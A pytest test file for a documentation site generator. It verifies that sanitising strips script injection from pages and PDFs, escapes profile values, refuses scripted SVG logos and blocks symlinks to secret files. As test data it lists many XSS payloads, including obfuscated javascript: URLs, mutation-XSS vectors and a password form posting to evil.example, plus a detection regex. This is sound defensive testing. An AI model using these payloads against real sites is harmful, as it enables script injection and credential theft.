"""Pages cannot carry script: every way an article has tried (raw script, frames, SVG script, handlers in
HTML and in attribute lists, javascript:/data:/vbscript: URLs in any spelling, md_in_html) is removed from
every target's pages and the PDFs, and named by `kb check` at its line; values from client profiles and
product.yml reach pages as text; a logo with script is refused; nothing read for a build leaves the
source folders."""

from __future__ import annotations

import json
import os
import re
from pathlib import Path

import pytest
from pypdf import PdfReader

from generator.build import build_target
from generator.catalog import load_catalog
from generator.checks import check_catalog
from generator.errors import SourceError
from generator.html_safety import sanitise_html
from generator.model import INTERNAL, SITE, client_target
from generator.theme_scripts import MANIFEST, content_area, content_span, script_hash, write_script_manifest

HOSTILE_PATH = "kb/scheduling/hostile.md"
# HOSTILE's <img src="x.png"> is a picture kb checks and copies, like a markdown one: it exists.
HOSTILE_PICTURE = {"kb/scheduling/x.png": b"\x89PNG\r\n\x1a\n"}
HOSTILE = """---
id: KB-0900
title: Hostile page
summary: Every way a page has tried to carry script.
type: howto
module: scheduling
confidence: validated
---

Intro text stays.

<script>alert("raw-script")</script>

<iframe src="https://evil.example/frame"></iframe>

<svg><script>alert("svg-script")</script></svg>

<img src="x.png" onerror="alert('img-onerror')">

[js link](javascript:alert%28'js-link'%29)

[mixed case](JaVaScRiPt:alert%28'mixed-case'%29)

[data link](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)

<a href="jav&#x61;script:alert('entity')">entity</a>

<a href="&#x0A;javascript:alert('newline')">newline</a>

<a href=" vbscript:msgbox('vb')">vb</a>

![pic](javascript:alert%28'img-src'%29)

A paragraph with handlers.
{: onclick="alert('attr-list-p')" }

[attr link](https://example.com){: onmouseover="alert('attr-list-a')" }

## Heading with handler { onclick="alert('attr-list-h')" }

<div markdown="1" onmouseover="alert('md-in-html')">
**bold inside**
</div>

<form action="https://evil.example/"><input name="pw"><button>Send</button></form>

## Heading with a picture <img src=x onerror="alert('heading-img')">

Code keeps its text: `<script>alert("in-code")</script>`

```html
<script>alert("in-fence")</script>
```

Last words stay.
"""
# What must never be live in a page's content after a build (the theme's own feedback form is not content).
LIVE = re.compile(
    r"<script|<iframe|<form(?! class=\"kb-feedback__more\")|<object|<embed|\son[a-z]+\s*="
    r"|javascript:|vbscript:|data:text/html|evil\.example",
    re.IGNORECASE,
)


def line_in(text: str, needle: str) -> int:
    return text[: text.index(needle)].count("\n") + 1


def live_markup(page: str) -> list[str]:
    return [match.group(0) for match in LIVE.finditer(content_area(page))]


@pytest.mark.parametrize(
    "markup",
    [
        '<script>alert("x")</script>',
        '<svg><script>alert("x")</script></svg>',
        '<img src="x.png" onerror="alert(1)">',
        '<iframe src="https://evil.example/"></iframe>',
        '<a href="javascript:alert(1)">x</a>',
        '<a href="JaVaScRiPt:alert(1)">x</a>',
        '<a href="jav&#x61;script:alert(1)">x</a>',
        '<a href="java\tscript:alert(1)">x</a>',
        '<a href="\x01javascript:alert(1)">x</a>',
        '<a href="data:text/html,&lt;script&gt;alert(1)&lt;/script&gt;">x</a>',
        '<a href="vbscript:msgbox(1)">x</a>',
        '<img src="data:text/html;base64,PHNjcmlwdD4=">',
        '<form action="https://evil.example/"><input name="pw"></form>',
        '<input name="pw">',
        '<div style="background: url(https://evil.example/)">x</div>',
        '<svg><a href="javascript:alert(1)"><path d="M0 0"/></a></svg>',
        '<svg><foreignObject><img src=x onerror="alert(1)"></foreignObject></svg>',
        '<math><mtext><table><mglyph><style><img src=x onerror="alert(1)"></style></mglyph></table></mtext></math>',
        '<object data="https://evil.example/x.swf"></object>',
    ],
)
def test_sanitiser_removes_script_handlers_frames_forms_and_dangerous_urls(markup):
    clean = sanitise_html(markup)
    assert not LIVE.search(clean), clean
    assert "<input" not in clean and "url(" not in clean and "<style" not in clean


@pytest.mark.parametrize(
    "markup",
    [
        '<h2 id="setup">Setup<a class="headerlink" href="#setup" title="Permanent link">¶</a></h2>',
        '<div class="admonition note"><p class="admonition-title">Note</p><p>Text</p></div>',
        '<details class="tip" open=""><summary>More</summary><p>Hidden</p></details>',
        '<div class="tabbed-set tabbed-alternate" data-tabs="1:2"><input checked="" id="__tabbed_1_1" '
        'name="__tabbed_1" type="radio"><div class="tabbed-labels"><label for="__tabbed_1_1">A</label></div></div>',
        '<ul class="task-list"><li class="task-list-item"><label class="task-list-control">'
        '<input type="checkbox" disabled="" checked=""><span class="task-list-indicator"></span></label> Done'
        "</li></ul>",
        '<table><thead><tr><th style="text-align:left">Key</th></tr></thead><tbody><tr><td>A</td></tr></tbody></table>',
        '<span class="twemoji"><svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 24 24"><path d="M1 2h3"></path>'
        "</svg></span>",
        '<p>See <abbr title="Work breakdown structure">WBS</abbr><sup id="fnref:1"><a class="footnote-ref" '
        'href="#fn:1">1</a></sup> and <kbd class="key-ctrl">Ctrl</kbd> <mark>marked</mark></p>',
        '<figure><img alt="Gantt" src="../images/gantt.svg"><figcaption>A chart</figcaption></figure>',
        '<div class="highlight"><pre><span></span><code><a id="__codelineno-0-1" name="__codelineno-0-1" '
        'href="#__codelineno-0-1"></a><span class="n">x</span></code></pre></div>',
        '<p><a href="https://example.com/a?b=1&amp;c=2">web</a> <a href="mailto:help@example.com">mail</a> '
        '<a href="../other/#part">page</a></p>',
    ],
)
def test_sanitiser_keeps_what_material_and_the_extensions_emit(markup):
    assert sanitise_html(markup) == markup


def test_sanitiser_removes_ids_the_theme_script_looks_up_and_check_names_them(make_project):
    """`<div id="__config">` before the theme's own would hand Material's script the page's settings."""
    clean = sanitise_html(
        '<div id="__config">{"search": "x.js"}</div><p name="__drawer" id="__toc">a</p><h2 id="__tabbed_1_1">b</h2>'
    )
    assert "__config" not in clean and "__drawer" not in clean and "__toc" not in clean
    assert 'id="__tabbed_1_1"' in clean  # the tabbed sets' own ids stay
    body = '\n<div id="__config" markdown>\n{"search": "x.js"}\n</div>\n\nText.\n{: #__search }\n'
    page = HOSTILE.split("Intro text stays.")[0] + body
    root = make_project("basic", files={HOSTILE_PATH: page})
    problems = [str(p) for p in check_catalog(load_catalog(root)) if p.path == HOSTILE_PATH]
    assert len(problems) == 2 and all("the theme's own" in p for p in problems), problems


def test_build_removes_every_injection_from_the_page_and_keeps_its_text(make_project):
    root = make_project("basic", files={**HOSTILE_PICTURE, HOSTILE_PATH: HOSTILE})
    out = build_target(root, SITE, root / "build" / "site").out
    page = (out / "kb/scheduling/hostile/index.html").read_text(encoding="utf-8")
    assert live_markup(page) == []
    content = content_area(page)
    for kept in ("Intro text stays.", "<strong>bold inside</strong>", "Last words stay.", "attr link"):
        assert kept in content
    # Markup shown as code stays as text, escaped.
    assert '<code>&lt;script&gt;alert("in-code")&lt;/script&gt;</code>' in content
    start, end = content_span(page)  # nor the theme's part of the page (the table of contents, the nav)
    assert not re.search(r"onerror|onclick|onmouseover|alert\(", page[:start] + page[end:])
    for other in out.rglob("*.html"):  # no other page (nav, search page, 404) carries any of it
        assert "alert(" not in other.read_text(encoding="utf-8") or other.parent.name == "hostile", other


def test_internal_build_is_sanitised_too(make_project):
    root = make_project("basic", files={**HOSTILE_PICTURE, HOSTILE_PATH: HOSTILE.replace("validated", "wip")})
    out = build_target(root, INTERNAL, root / "build" / "internal").out
    assert live_markup((out / "kb/scheduling/hostile/index.html").read_text(encoding="utf-8")) == []


def test_check_names_each_injection_at_its_line_and_not_markup_in_code(make_project):
    root = make_project("basic", files={**HOSTILE_PICTURE, HOSTILE_PATH: HOSTILE})
    problems = [p for p in check_catalog(load_catalog(root)) if p.path == HOSTILE_PATH]
    assert all(p.severity == "warning" for p in problems)
    lines = {p.line for p in problems}
    for needle in (
        '<script>alert("raw-script")',
        "<iframe",
        "<svg><script>",
        "onerror=",
        "[js link]",
        "[mixed case]",
        "[data link]",
        "jav&#x61;script",
        "&#x0A;javascript",
        " vbscript",
        "![pic]",
        "{: onclick",
        "{: onmouseover",
        "{ onclick",
        "onmouseover=\"alert('md-in-html')",
        "<form",
        "<img src=x onerror",
    ):
        assert line_in(HOSTILE, needle) in lines, (needle, sorted(lines), [str(p) for p in problems])
    assert line_in(HOSTILE, "in-code") not in lines and line_in(HOSTILE, "in-fence") not in lines
    message = next(str(p) for p in problems if p.line == line_in(HOSTILE, "<iframe"))
    assert message.startswith(f"{HOSTILE_PATH}:{line_in(HOSTILE, '<iframe')}: <iframe>: element not allowed")


def test_check_strict_fails_on_markup_the_sanitiser_would_remove(run_kb, make_project):
    root = make_project("basic", files={**HOSTILE_PICTURE, HOSTILE_PATH: HOSTILE})
    result = run_kb(root, "check", "--strict")
    assert result.exit_code == 1
    assert f"{HOSTILE_PATH}:{line_in(HOSTILE, 'onerror=')}: <img>: event handler 'onerror'" in result.output


def test_check_accepts_the_markup_of_legitimate_pages(make_project):
    page = HOSTILE.split("Intro text stays.")[0] + (
        '<div class="grid cards" markdown>\n\n- **A**\n\n</div>\n\n'
        '<figure markdown="span">\n  ![Gantt](gantt.png){ width="300" loading=lazy }\n</figure>\n\n'
        "[Button](https://example.com){ .md-button .md-button--primary }\n\n"
        "## Setup { #setup .special data-toc-label='Set up' }\n\n"
        '<abbr title="x">X</abbr> <kbd>Ctrl</kbd> <a href="mailto:a@example.com">mail</a>\n'
    )
    root = make_project("basic", files={HOSTILE_PATH: page, "kb/scheduling/gantt.png": b"\x89PNG\r\n\x1a\n"})
    problems = [str(p) for p in check_catalog(load_catalog(root)) if p.path == HOSTILE_PATH]
    assert [p for p in problems if "data-toc-label" not in p] == []


def pdf_links(path: Path) -> list[str]:
    uris = []
    for page in PdfReader(path).pages:
        for annotation in page.get("/Annots") or []:
            action = annotation.get_object().get("/A") or {}
            if "/URI" in action:
                uris.append(str(action["/URI"]))
    return uris


def test_handout_carries_no_javascript_link_and_the_client_site_no_injection(make_project):
    chapter = "docs/user/01-gantt.md"
    root = make_project("clients")
    source = (root / chapter).read_text(encoding="utf-8")
    # A handout refuses a missing picture (test_clients): this one has no src for the check to refuse.
    hostile = HOSTILE.split("---\n", 2)[2].replace('src="x.png" ', "").replace("<img src=x ", "<img ")
    hostile += '\n<a href="JaVaScRiPt:alert(1)">pdf-js</a> <a href="https://example.com/">web</a>\n'
    (root / chapter).write_text(source + "\n" + hostile, encoding="utf-8")
    profile = next(iter(load_catalog(root).clients.values()))
    out = build_target(root, client_target(profile, None), root / "build" / "client", formats=("site", "pdf")).out
    page = (out / "user/gantt/index.html").read_text(encoding="utf-8")
    assert live_markup(page) == [] and "Last words stay." in page
    pdf = out / "pdf" / client_target(profile, None).pdf_name("user")
    links = pdf_links(pdf)
    assert "https://example.com/" in links
    assert not [uri for uri in links if "script" in uri.lower() or uri.lower().startswith("data:")]
    text = PdfReader(pdf).pages[-1].extract_text() + "".join(p.extract_text() for p in PdfReader(pdf).pages)
    assert "Last words stay." in text and "pdf-js" in text


# Values from client profiles and product.yml

CLIENT_NAME = "<script>alert('client-name')</script>Acme"
TERM = "<script>alert('term')</script>job"


def test_client_name_and_terms_reach_every_page_as_text(make_project):
    root = make_project("clients")
    profile = (root / "clients/acme.yml").read_text(encoding="utf-8")
    profile = re.sub(r"(?m)^name: .*$", f'name: "{CLIENT_NAME}"', profile)
    profile = re.sub(r"(?m)^terms:.*$", f'terms: {{project: "{TERM}"}}', profile)
    root.joinpath("clients/acme.yml").write_text(profile, encoding="utf-8")
    used = "docs/user/01-gantt.md"
    root.joinpath(used).write_text(
        root.joinpath(used).read_text(encoding="utf-8") + '\nThe {{ term("project") }} of {{ client.name }}.\n',
        encoding="utf-8",
    )
    catalog = load_catalog(root)
    out = build_target(root, client_target(catalog.clients["acme"], None), root / "build" / "client-acme").out
    pages = list(out.rglob("*.html"))
    assert len(pages) > 5
    for path in pages:
        assert "<script>alert" not in path.read_text(encoding="utf-8"), path
    header = (out / "index.html").read_text(encoding="utf-8")
    assert "&lt;script&gt;alert('client-name')&lt;/script&gt;Acme" in header
    chapter = content_area((out / "user/gantt/index.html").read_text(encoding="utf-8"))
    assert "The &lt;script&gt;alert('term')&lt;/script&gt;job of &lt;script&gt;alert('client-name')" in chapter


def test_product_words_reach_the_landing_pages_and_navigation_as_text(make_project):
    root = make_project("basic")
    product = (root / "product.yml").read_text(encoding="utf-8")
    product = product.replace("short_name: Sample", 'short_name: "<img src=x onerror=alert(1)>"')
    product = product.replace("{title: Budgets,", '{title: "<b onclick=alert(2)>Budgets</b>",')
    root.joinpath("product.yml").write_text(product, encoding="utf-8")
    out = build_target(root, SITE, root / "build" / "site").out
    for path in out.rglob("*.html"):
        text = path.read_text(encoding="utf-8")
        assert "<img src=x" not in text and "<b onclick" not in text, path
    assert "&lt;b onclick=alert(2)&gt;Budgets&lt;/b&gt;" in (out / "kb/index.html").read_text(encoding="utf-8")


# Logos

SVG_OK = b'<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 10 10"><rect width="10" height="10"/></svg>'


@pytest.mark.parametrize(
    ("name", "content", "expected"),
    [
        ("logo.svg", SVG_OK.replace(b"<rect", b"<script>alert(1)</script><rect"), "<script> element"),
        ("logo.svg", SVG_OK.replace(b"<rect", b'<rect onload="alert(1)"'), "event handler (onload)"),
        ("logo.svg", SVG_OK.replace(b"<rect", b"<foreignObject><p>x</p></foreignObject><rect"), "<foreignObject>"),
        (
            "logo.svg",
            SVG_OK.replace(b"<rect", b'<image href="https://evil.example/x.png"/><rect'),
            "external reference",
        ),
        ("logo.svg", SVG_OK.replace(b"<rect", b"<style>@import url(https://evil.example/);</style><rect"), "style"),
        ("logo.svg", b'<!DOCTYPE svg [<!ENTITY x "y">]>' + SVG_OK, "DOCTYPE"),
        ("logo.png", b"<html><script>alert(1)</script></html>", "not a PNG picture"),
        ("logo.png", SVG_OK, "not a PNG picture"),
    ],
)
def test_logo_with_script_or_not_what_its_name_says_is_refused_at_the_profile_line(
    make_project, name, content, expected
):
    root = make_project("clients", files={f"clients/acme/{name}": content})
    profile = (root / "clients/acme.yml").read_text(encoding="utf-8")
    root.joinpath("clients/acme.yml").write_text(profile.replace("clients/acme/logo.svg", f"clients/acme/{name}"))
    problems = [str(p) for p in check_catalog(load_catalog(root)) if p.path == "clients/acme.yml" and p.is_error]
    line = line_in(profile, "logo:")
    assert len(problems) == 1 and problems[0].startswith(f"clients/acme.yml:{line}: 'logo': "), problems
    assert expected in problems[0]


@pytest.mark.parametrize(
    ("name", "content"),
    [
        ("logo.svg", SVG_OK),
        ("logo.png", b"\x89PNG\r\n\x1a\n" + b"\0" * 20),
        ("logo.jpg", b"\xff\xd8\xff\xe0" + b"\0" * 20),
        ("logo.gif", b"GIF89a" + b"\0" * 20),
        ("logo.webp", b"RIFF\0\0\0\0WEBPVP8 " + b"\0" * 20),
    ],
)
def test_plain_logos_are_accepted(make_project, name, content):
    root = make_project("clients", files={f"clients/acme/{name}": content})
    profile = (root / "clients/acme.yml").read_text(encoding="utf-8")
    root.joinpath("clients/acme.yml").write_text(profile.replace("clients/acme/logo.svg", f"clients/acme/{name}"))
    assert [str(p) for p in check_catalog(load_catalog(root)) if p.path == "clients/acme.yml" and p.is_error] == []


def test_svg_picture_with_script_in_the_pages_folders_is_refused_and_not_published(make_project):
    root = make_project(
        "basic", files={"docs/user/images/evil.svg": SVG_OK.replace(b"<rect", b"<script>x()</script><rect")}
    )
    catalog = load_catalog(root)
    assert "docs/user/images/evil.svg" not in catalog.assets
    problems = [str(p) for p in check_catalog(catalog)]
    assert (
        "docs/user/images/evil.svg: an SVG with a <script> element; expected one without scripts or embedded content"
        in problems
    )


# Paths read for a build


def test_symlink_into_the_instance_folder_is_refused_and_the_secret_never_published(make_project, run_kb):
    root = make_project("basic")
    (root / "instance").mkdir()
    (root / "instance/secret_key").write_text("SECRET-KEY-3b9e\n")
    (root / "kb/images").mkdir()
    os.symlink("../../instance/secret_key", root / "kb/images/key.txt")
    result = run_kb(root, "build", "--target", "site")
    assert result.exit_code == 1
    assert "kb/images/key.txt: symbolic link points outside the project's source folders" in result.output
    published = [p for p in (root / "build").rglob("*") if p.is_file()] if (root / "build").exists() else []
    assert not any("SECRET-KEY-3b9e" in p.read_text(errors="replace") for p in published)


def test_symlink_out_of_the_theme_overrides_is_refused(make_project):
    root = make_project("basic")
    (root / "instance").mkdir()
    (root / "instance/secret_key").write_text("SECRET-KEY-3b9e\n")
    os.symlink("../../instance/secret_key", root / "overrides/assets/key.txt")
    with pytest.raises(SourceError, match=r"overrides/assets/key.txt: symbolic link points outside"):
        build_target(root, SITE, root / "build" / "site")


def test_logo_linked_out_of_the_source_folders_is_refused(make_project):
    root = make_project("clients")
    (root / "instance").mkdir()
    (root / "instance/logo.svg").write_bytes(SVG_OK)
    (root / "clients/acme/logo.svg").unlink()
    os.symlink("../../instance/logo.svg", root / "clients/acme/logo.svg")
    problems = [str(p) for p in check_catalog(load_catalog(root))]
    assert any(p.startswith("clients/acme.yml:") and "'logo'" in p for p in problems), problems


def test_symlink_between_source_folders_is_followed(make_project):
    root = make_project("basic")
    os.symlink("../../docs/user/images/gantt.svg", root / "kb/scheduling/gantt.svg")
    assert not [p for p in check_catalog(load_catalog(root)) if p.path == "kb/scheduling/gantt.svg"]


# The theme's scripts for the portal's policy


def test_build_lists_the_theme_inline_scripts_and_never_one_from_content(make_project):
    root = make_project("basic", files={**HOSTILE_PICTURE, HOSTILE_PATH: HOSTILE})
    out = build_target(root, SITE, root / "build" / "site").out
    manifest = (out / MANIFEST).read_text(encoding="utf-8")
    page = (out / "kb/scheduling/hostile/index.html").read_text(encoding="utf-8")
    outside = [m.group(1) for m in re.finditer(r"<script>(.*?)</script>", page, re.DOTALL)]
    assert outside and all(script_hash(body) in manifest for body in outside)
    assert script_hash('alert("raw-script")') not in manifest


def test_script_manifest_takes_the_engines_hashes_only_for_the_exact_file_it_placed(tmp_path):
    """The engine passes each page's hashes with the file's size, time and inode: a file changed since is read."""
    site = tmp_path / "site"
    (site / "a").mkdir(parents=True)
    page = site / "a/index.html"
    page.write_text("<script>var theme = 1</script>", encoding="utf-8")
    found = page.stat()
    known = {"a/index.html": ((found.st_size, found.st_mtime_ns, found.st_ino), ("'sha256-known'",))}
    assert write_script_manifest(site, known) == ("'sha256-known'",)
    page.write_text("<script>var theme = 22</script>", encoding="utf-8")  # the same inode, written since
    assert write_script_manifest(site, known) == (script_hash("var theme = 22"),)
    assert script_hash("var theme = 22") in (site / MANIFEST).read_text(encoding="utf-8")


@pytest.mark.parametrize("client", [None, "acme"], ids=["site", "client"])
def test_the_script_manifest_from_what_the_build_wrote_is_the_one_a_walk_of_the_site_makes(make_project, client):
    """The build lists the theme's scripts from the files the engine and the context help wrote, without
    walking the site: every HTML file in it is one of them (a demo page's script and the 404 page's too),
    after a full build and after an edit."""
    demo = {"demo/index.html": "<!doctype html><title>Demo</title><script>var demo = 'screen'</script>\n"}
    root = make_project("basic", files=demo)
    target = client_target(load_catalog(root).clients[client]) if client else SITE
    out = root / "build" / target.name
    for _ in range(2):
        build_target(root, target, out)
        listed = json.loads((out / MANIFEST).read_text(encoding="utf-8"))["script-src"]
        assert script_hash("var demo = 'screen'") in listed and (out / "404.html").is_file()
        assert tuple(listed) == write_script_manifest(out)  # a walk of every file of the site
        page = root / "kb/scheduling/gantt-empty.md"
        page.write_text(page.read_text(encoding="utf-8").replace("is empty after", "shows nothing after"))
